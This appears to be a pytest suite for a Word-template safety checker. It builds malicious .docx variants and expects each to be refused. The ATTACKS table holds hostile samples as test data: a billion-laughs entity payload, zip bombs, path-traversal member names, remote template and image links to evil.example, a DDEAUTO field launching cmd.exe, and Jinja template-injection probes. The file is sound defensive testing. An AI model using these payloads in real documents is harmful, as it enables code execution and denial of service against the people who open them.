"""A template that could run, fetch, blow up or print something uncertain is refused, and the reason names the attack."""

import io
import struct
import zipfile

import pytest

from letters.archive import BODY_PART, members_of
from letters.template_check import check_template
from letters.template_compiled import compile_template
from tests.template_files import (
    RELATED,
    SHIPPED,
    TYPES,
    WORD,
    changed,
    paragraph,
    replaced,
    run,
    with_markup,
    with_member,
    with_relation,
    with_text,
    zipped,
)
from tracker.errors import WorkFailed

KINDS = frozenset()  # the placeholders that are needed are another test's matter
BILLION_LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
SETTINGS = "word/settings.xml"


def in_settings(markup: str) -> bytes:
    return replaced(SETTINGS, "<w:compat>", f"{markup}<w:compat>")


def field(instruction: str) -> bytes:
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
    return with_markup(f"<w:p>{marks[0]}<w:r><w:instrText>{instruction}</w:instrText></w:r>{marks[1]}</w:p>")


def split_field(*instructions: str) -> bytes:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    runs = "</w:p><w:p>".join(
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>" for instruction in instructions
    )
    return with_markup(f"<w:p>{begin}{runs}{end}</w:p>")


def with_doctype() -> bytes:
    return changed(
        lambda m: m.update({BODY_PART: m[BODY_PART].replace(b"<w:document", BILLION_LAUGHS + b"<w:document")})
    )


def in_encoding(codec: str, declared: str) -> bytes:
    def change(members: dict[str, bytes]) -> None:
        text = members["word/styles.xml"].decode().partition("?>")[2]
        declaration = f'<?xml version="1.0" encoding="{declared}"?><!DOCTYPE w:styles>'
        members["word/styles.xml"] = (declaration + text).encode(codec)

    return changed(change)


def with_lying_size() -> bytes:
    """The table of contents and the header say 10 bytes, the member has many."""
    bomb = zipped({**members_of(SHIPPED), "word/theme.xml": b"<a>" + b" " * 60_000 + b"</a>"})
    size = struct.pack("<L", 60_007)
    assert bomb.count(size) == 2
    return bomb.replace(size, struct.pack("<L", 10))


def with_duplicate() -> bytes:
    packed = io.BytesIO(SHIPPED)
    with zipfile.ZipFile(packed, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(BODY_PART, members_of(SHIPPED)[BODY_PART])
    return packed.getvalue()


def encrypted() -> bytes:
    body = bytearray(SHIPPED)
    body[body.rindex(b"PK\1\2") + 8] |= 1
    return bytes(body)


def deep() -> bytes:
    return with_markup("<w:p>" * 5000 + "</w:p>" * 5000)


ATTACKS = {
    "not a zip": (b"hello", "không phải .docx"),
    "a PDF": (b"%PDF-1.7", "không phải .docx"),
    "an old .doc or an encrypted file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "mật khẩu"),
    "cut off": (SHIPPED[:-40], "hỏng"),
    "broken inside": (SHIPPED.replace(b"PK\3\4", b"PK\3\5").replace(b"PK\3\5", b"PK\3\4", 1), "hỏng"),
    "too large": (SHIPPED + bytes(2 * 1024 * 1024), "lớn hơn 2 MB"),
    "a bomb of blanks": (with_member("word/theme.xml", b"<a>" + b" " * 10_000_000 + b"</a>"), "giống tệp phá hoại"),
    "many bombs": (changed(lambda m: m.update({f"word/x{n}.xml": b" " * 1_000_000 for n in range(30)})), "20 MB"),
    "a lying size": (with_lying_size(), "hỏng"),
    "too many members": (changed(lambda m: m.update({f"word/x{n}.xml": b"<a/>" for n in range(200)})), "nhiều hơn 200"),
    "two members of one name": (with_duplicate(), "trùng tên"),
    "names that differ in case": (with_member("word/Document.xml", b"<a/>"), "trùng tên"),
    "a way out of the folder": (with_member("word/../../evil.xml", b"<a/>"), "tên không hợp lệ"),
    "an absolute name": (with_member("/etc/evil.xml", b"<a/>"), "tên không hợp lệ"),
    "a name with backslashes": (with_member("word\\..\\evil.xml", b"<a/>"), "tên không hợp lệ"),
    "a drive": (with_member("C:/evil.xml", b"<a/>"), "tên không hợp lệ"),
    "an encrypted member": (encrypted(), "mật khẩu"),
    "another zip inside": (with_member("word/a.zip", b"PK\3\4"), "tệp nén khác"),
    "a zip that calls itself a picture": (with_member("word/media/a.png", SHIPPED), "giấu vào"),
    "a program that calls itself a picture": (with_member("word/media/a.jpeg", b"MZ\x90"), "giấu vào"),
    "no document": (changed(lambda m: m.pop(BODY_PART)), "thiếu word/document.xml"),
    "a workbook": (zipped({TYPES: b"<Types/>", "_rels/.rels": b"<a/>", "xl/workbook.xml": b"<a/>"}), "không phải văn bản Word"),
    "a macro": (with_member("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "macro"),
    "a .docm renamed": (replaced(TYPES, "vnd.openxmlformats-officedocument.wordprocessingml.document.main", "vnd.ms-word.document.macroEnabled.main"), "(.docm)"),
    "a .dotx renamed": (replaced(TYPES, "wordprocessingml.document.main", "wordprocessingml.template.main"), ".dotx"),
    "a macro by relation only": (with_relation("vbaProject", "a.xml", "Internal"), "macro"),
    "ActiveX": (with_member("word/activeX/activeX1.xml", b"<a/>"), "ActiveX"),
    "an OLE object": (with_member("word/embeddings/oleObject1.bin", b"\xd0\xcf"), "OLE"),
    "an embedded workbook": (with_relation("package", "embeddings/a.xml", "Internal"), "tệp được nhúng"),
    "a part nobody knows": (with_relation("somethingNew", "a.xml", "Internal"), "thành phần lạ"),
    "a picture from outside": (with_relation("image", "http://evil.example/a.png"), "trỏ ra bên ngoài"),
    "a picture from outside that says it is inside": (with_relation("image", "http://evil.example/a.png", "Internal"), "trỏ ra bên ngoài"),
    "a share of another machine": (with_relation("image", "\\\\evil\\share\\a.png", "Internal"), "trỏ ra bên ngoài"),
    "a template from outside": (with_relation("attachedTemplate", "http://evil.example/a.dotm"), "attachedTemplate"),
    "a link to a program": (with_relation("hyperlink", "file:///C:/evil.exe"), "trỏ ra bên ngoài"),
    "a link that is code": (with_relation("hyperlink", "javascript:alert(1)"), "trỏ ra bên ngoài"),
    "a relation to nothing": (with_relation("image", "media/none.png", "Internal"), "thiếu thành phần"),
    "another document put in": (with_markup(f'<w:altChunk xmlns:r="{RELATED}" r:id="rId9"/>'), "altChunk"),
    "another document by relation": (with_relation("aFChunk", "a.html", "Internal"), "altChunk"),
    "a document below": (with_markup('<w:subDoc/>'), "subDoc"),
    "an object in the text": (with_markup("<w:p><w:r><w:object/></w:r></w:p>"), "đối tượng nhúng"),
    "a picture by address": (with_markup('<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a"/></w:pict></w:r></w:p>'), "địa chỉ bên ngoài"),
    "INCLUDETEXT": (field(" INCLUDETEXT C:\\\\secret.txt "), "INCLUDETEXT"),
    "INCLUDEPICTURE": (field('INCLUDEPICTURE "http://evil.example/a"'), "INCLUDEPICTURE"),
    "DDE": (field("DDE cmd"), "DDE"),
    "DDEAUTO": (field('ddeauto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "DDEAUTO"),
    "DDEAUTO in pieces": (split_field("DDE", "AUTO cmd"), "DDEAUTO"),
    "LINK": (field("LINK Excel.Sheet a.xlsx"), "LINK"),
    "IMPORT": (field("IMPORT a"), "IMPORT"),
    "DATABASE": (field("DATABASE"), "DATABASE"),
    "MERGEFIELD": (field("MERGEFIELD ten"), "MERGEFIELD"),
    "MACROBUTTON": (field("MACROBUTTON Evil"), "MACROBUTTON"),
    "a simple field": (with_markup('<w:p><w:fldSimple w:instr=" DATE "/></w:p>'), "DATE"),
    "a field in a field": (with_markup('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>LINK a</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:r></w:p>'), "LINK"),
    "a field that does not end": (with_markup('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'), "không đóng"),
    "an instruction without a field": (with_markup("<w:p><w:r><w:instrText>DDE</w:instrText></w:r></w:p>"), "ngoài trường"),
    "entities that multiply": (with_doctype(), "DOCTYPE"),
    "a DOCTYPE in UTF-16": (in_encoding("utf-16", "UTF-16"), "UTF-8"),
    "a DOCTYPE in UTF-16 without a mark": (in_encoding("utf-16-le", "UTF-16"), "UTF-8"),
    "a DOCTYPE in EBCDIC": (in_encoding("cp037", "cp037"), "UTF-8"),
    "a DOCTYPE in UTF-7": (in_encoding("utf-7", "UTF-7"), "UTF-8"),
    "entities in the content types": (changed(lambda m: m.update({TYPES: BILLION_LAUGHS + m[TYPES].partition(b"?>")[2]})), "DOCTYPE"),
    "a million elements": (with_markup("".join(f"<w:p w:a='{n:x}'/>" for n in range(400_000))), "Phần chữ"),
    "a paragraph of names": (with_text("{{ma_ho_so}}" * 51), "hơn 50 chỗ"),
    "markup too deep": (deep(), "quá sâu"),
    "broken markup": (replaced(BODY_PART, "</w:body>", ""), "XML hỏng"),
    "an instruction to the processor": (with_markup("<?evil do?>"), "lệnh xử lý"),
    "Strict Open XML": (replaced(BODY_PART, WORD, "http://purl.oclc.org/ooxml/wordprocessingml/main"), "Strict"),
    "a mail merge": (in_settings("<w:mailMerge/>"), "trộn thư"),
    "a template in the settings": (in_settings("<w:attachedTemplate/>"), "attachedTemplate"),
    "a transformation": (in_settings("<w:saveThroughXslt/>"), "biến đổi"),
    "a form that calls a macro": (with_markup('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Evil"/></w:ffData></w:fldChar></w:r></w:p>'), "gọi macro"),
    "data binding": (with_markup('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>'), "data binding"),
    "tracked insertion": (with_markup(f'<w:p><w:ins w:author="a">{run("mới")}</w:ins></w:p>'), "Track Changes"),
    "tracked deletion": (with_markup("<w:p><w:del><w:r><w:delText>cũ</w:delText></w:r></w:del></w:p>"), "Track Changes"),
    "tracked look": (with_markup("<w:p><w:pPr><w:pPrChange/></w:pPr></w:p>"), "Track Changes"),
    "a comment": (with_markup('<w:p><w:commentRangeStart w:id="0"/></w:p>'), "chú thích"),
    "Jinja: a block": (with_text("{% for x in y %}"), "mã lệnh"),
    "Jinja: a comment": (with_text("{# x #}"), "mã lệnh"),
    "Jinja: an expression": (with_text("{{ ''.__class__.__mro__ }}"), "không chạy mã lệnh"),
    "Jinja: a filter": (with_text("{{ma_ho_so|upper}}"), "không chạy mã lệnh"),
    "Jinja: a sum": (with_text("{{7*7}}"), "không chạy mã lệnh"),
    "Jinja in pieces": (with_markup(f"<w:p>{run('{')}{run('% if x %')}{run('}')}</w:p>"), "mã lệnh"),
    "Jinja in a footer": (replaced("word/header1.xml", "</w:hdr>", f"{paragraph('{{cycler.__init__}}')}</w:hdr>"), "không chạy mã lệnh"),
    "a placeholder in an attribute": (with_markup(f'<w:p w:rsidR="{{{{kinh_gui}}}}">{run("{{ma_ho_so}}")}</w:p>'), "không in chữ vào được"),
    "a placeholder in the settings": (in_settings('<w:x w:val="{{ma_ho_so}}"/>'), "không in chữ vào được"),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_is_refused_with_its_reason(attack: str) -> None:
    data, reason = ATTACKS[attack]
    report = check_template(data, KINDS)
    assert not report.is_usable
    assert any(reason in fault for fault in report.faults), report.faults


@pytest.mark.parametrize("attack", ["a bomb of blanks", "entities that multiply", "Jinja: a sum"])
def test_what_was_changed_after_the_check_is_not_filled_either(attack: str) -> None:
    with pytest.raises(WorkFailed, match="Không dùng được tệp mẫu"):
        compile_template(ATTACKS[attack][0], KINDS)


def test_the_template_that_the_attacks_begin_with_is_harmless() -> None:
    assert check_template(SHIPPED, KINDS).faults == ()
    assert check_template(zipped(members_of(SHIPPED), zipfile.ZIP_STORED), KINDS).faults == ()


@pytest.mark.parametrize(
    "harmless",
    [
        with_relation("hyperlink", "https://dichvucong.example/tra-cuu"),
        with_relation("hyperlink", "mailto:motcua@example.vn"),
        with_markup('<w:p><w:fldSimple w:instr=" NUMPAGES \\* MERGEFORMAT "/></w:p>'),
        with_markup('<w:sdt><w:sdtPr><w:docPartObj/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>'),
        with_text("Điện thoại {1}; phần mềm C# %"),
        with_member("customXml/item1.xml", b"<?mso-contentType?><FormTemplates/>"),
    ],
)  # fmt: skip
def test_what_offices_really_have_is_taken(harmless: bytes) -> None:
    assert check_template(harmless, KINDS).faults == ()


def test_a_link_that_stays_is_told() -> None:
    report = check_template(with_relation("hyperlink", "https://dichvucong.example/tra-cuu"), KINDS)
    assert any("https://dichvucong.example" in warning for warning in report.warnings)
